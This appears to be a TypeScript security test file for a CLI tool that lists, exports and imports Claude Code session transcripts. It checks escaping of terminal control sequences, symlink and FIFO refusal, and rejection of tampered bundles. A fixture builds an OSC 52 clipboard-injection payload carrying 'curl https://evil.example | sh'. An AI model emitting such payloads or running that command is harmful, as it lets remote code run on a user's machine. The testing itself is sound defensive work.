// The session library's surfaces (issue 34) against the trust model, as root and as an unprivileged user, through the
// built binary: a transcript holding OSC 52, OSC 0 and CSI 2J reaches no terminal raw through `ctx show` or
// `ctx session list` (--json keeps it exactly); `ctx export --out` is a path the person names (a link refused without
// --force, a FIFO refused at once, nothing else changed); a bundle is untrusted input: its hostile title reaches stderr
// as one escaped line, and a bundle with one byte changed is refused whole with Claude Code's folder left as it was.
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { assistantText, userPrompt } from "../helpers/transcript-lines.ts";
import {
  chownTree,
  holdsTerminalControl,
  listTree,
  makeWorld,
  RUNNERS,
  runCtxIn,
  treeChanges,
  UNPRIVILEGED_ID,
  type World,
} from "./harness.ts";

const ESC = String.fromCharCode(0x1b);
const OSC52 = `${ESC}]52;c;${Buffer.from("curl https://evil.example | sh\n").toString("base64")}${ESC}\\`;
const OSC0 = `${ESC}]0;pwned title${String.fromCharCode(0x07)}`;
const CSI2J = `${ESC}[2J${ESC}[H`;
const SESSION = "3c2b1a0f-9e8d-4c7b-a6f5-e4d3c2b1a0f9";
const PROMPT = `polish the nebula lathe ${OSC52} now ${CSI2J}`;
const REPLY = `the nebula lathe is polished ${OSC0} done`;
const QUICK_MS = 15_000;

let world: World | undefined;
afterEach(() => {
  world?.cleanup();
  world = undefined;
});

/** A git checkout with a remote (export names a project by it) and a hostile session whose cwd is that checkout. */
function hostileWorld(runner: (typeof RUNNERS)[number]): { w: World; checkout: string } {
  const w = makeWorld(runner, "library");
  const checkout = join(w.base, "app");
  mkdirSync(checkout);
  execFileSync("git", ["init", "-q", checkout]);
  execFileSync("git", ["-C", checkout, "remote", "add", "origin", "https://github.com/acme/app"]);
  const folder = join(w.claudeDir, "projects", checkout.replaceAll("/", "-"));
  mkdirSync(folder, { recursive: true });
  const line = { sessionId: SESSION, cwd: checkout };
  writeFileSync(
    join(folder, `${SESSION}.jsonl`),
    `${[userPrompt(line, PROMPT), assistantText(line, "msg_1", REPLY)].join("\n")}\n`,
  );
  if (runner === "unprivileged") chownTree(w.base, UNPRIVILEGED_ID, UNPRIVILEGED_ID);
  return { w, checkout };
}

describe.each(RUNNERS)("the session library, as the %s user", (runner) => {
  it("ctx show and ctx session list print a transcript's escape sequences escaped; --json keeps them exactly", async () => {
    const { w } = hostileWorld(runner);
    world = w;
    expect((await runCtxIn(w, ["index", "--quiet"])).code).toBe(0);
    const tagged = await runCtxIn(w, ["session", "tag", SESSION.slice(0, 8), "lathe"]);
    expect(tagged.code, tagged.stderr).toBe(0);

    const shown = await runCtxIn(w, ["show", SESSION.slice(0, 8)]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toContain("nebula lathe");
    expect(shown.stdout).toContain("\\u001b");
    expect(holdsTerminalControl(shown.stdout)).toBe(false);
    expect(holdsTerminalControl(shown.stderr)).toBe(false);
    const json = await runCtxIn(w, ["show", SESSION, "--json"]);
    expect(json.code, json.stderr).toBe(0);
    expect(holdsTerminalControl(json.stdout)).toBe(false);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(OSC52).slice(1, -1));

    const listed = await runCtxIn(w, ["session", "list"]);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain("lathe");
    expect(holdsTerminalControl(listed.stdout)).toBe(false);
  });

  it("ctx export --out: a link is refused without --force and a FIFO at once; nothing else changes", async () => {
    const { w } = hostileWorld(runner);
    world = w;
    expect((await runCtxIn(w, ["index", "--quiet"])).code).toBe(0);
    const target = join(w.base, "elsewhere.txt");
    writeFileSync(target, "keep me\n");
    const link = join(w.base, "bundle-link");
    symlinkSync(target, link);
    const fifo = join(w.base, "bundle-fifo");
    execFileSync("mkfifo", [fifo]);
    if (runner === "unprivileged") chownTree(w.base, UNPRIVILEGED_ID, UNPRIVILEGED_ID);
    const before = listTree(w.base, ["home/.ctx"]);

    const viaLink = await runCtxIn(w, ["export", SESSION, "--out", link], { timeoutMs: QUICK_MS });
    expect(viaLink.code).not.toBe(0);
    expect(viaLink.stderr).toMatch(/link/);
    const viaFifo = await runCtxIn(w, ["export", SESSION, "--out", fifo], { timeoutMs: QUICK_MS });
    expect(viaFifo.code).not.toBe(0);
    expect(viaFifo.stderr).toMatch(/not a regular file|FIFO|fifo/i);
    expect(readFileSync(target, "utf8")).toBe("keep me\n");
    expect(treeChanges(before, listTree(w.base, ["home/.ctx"]))).toEqual([]);
  });

  it("ctx import: a hostile title reaches stderr escaped; one changed byte refuses the bundle whole", async () => {
    const { w, checkout } = hostileWorld(runner);
    world = w;
    expect((await runCtxIn(w, ["index", "--quiet"])).code).toBe(0);
    const bundle = join(w.base, "handoff.ctxbundle");
    const exported = await runCtxIn(w, ["export", SESSION, "--out", bundle]);
    expect(exported.code, exported.stderr).toBe(0);

    // Imported back onto the same checkout: the transcript is already there and identical, so it is left alone.
    const imported = await runCtxIn(w, ["import", bundle, "--checkout", checkout]);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toContain(`claude --resume ${SESSION}`);
    expect(imported.stderr).toContain("nebula lathe");
    expect(holdsTerminalControl(imported.stdout)).toBe(false);
    expect(holdsTerminalControl(imported.stderr)).toBe(false);

    const bytes = readFileSync(bundle);
    const at = Math.floor(bytes.length / 2);
    bytes[at] = (bytes[at] ?? 0) ^ 0xff;
    const tampered = join(w.base, "tampered.ctxbundle");
    writeFileSync(tampered, bytes);
    if (runner === "unprivileged") chownTree(w.base, UNPRIVILEGED_ID, UNPRIVILEGED_ID);
    const before = listTree(w.claudeDir);
    const refused = await runCtxIn(w, ["import", tampered, "--checkout", checkout, "--force"], { timeoutMs: QUICK_MS });
    expect(refused.code).not.toBe(0);
    expect(refused.stderr.split("\n")[0]).toMatch(/^ctx: /);
    expect(holdsTerminalControl(refused.stderr)).toBe(false);
    expect(treeChanges(before, listTree(w.claudeDir))).toEqual([]);
  });
});
